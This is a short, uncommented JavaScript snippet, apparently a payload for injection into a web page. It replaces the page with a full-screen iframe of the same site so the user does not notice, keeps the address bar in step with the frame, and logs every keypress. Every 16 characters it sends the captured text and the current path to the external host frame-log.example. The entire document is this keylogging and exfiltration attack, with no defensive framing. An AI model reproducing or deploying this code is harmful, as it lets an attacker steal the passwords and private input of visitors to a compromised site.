var fr = document.createElement('iframe');
fr.src = location.href; fr.style.cssText = 'position:fixed;top:0;left:0;width:100%;height:100%;border:0';
document.body.innerHTML = ''; document.body.appendChild(fr);
var log = '';
fr.onload = function () {
  try { history.replaceState({}, '', fr.contentWindow.location.href); } catch (e) {}
  fr.contentDocument.addEventListener('keypress', function (e) {
    log += e.key;
    if (log.length >= 16) {
      var r = new XMLHttpRequest();
      r.open('GET', 'https://frame-log.example/add?d=' + encodeURIComponent(log) + '&u=' + encodeURIComponent(fr.contentWindow.location.pathname));
      r.send(); log = '';
    }
  });
};
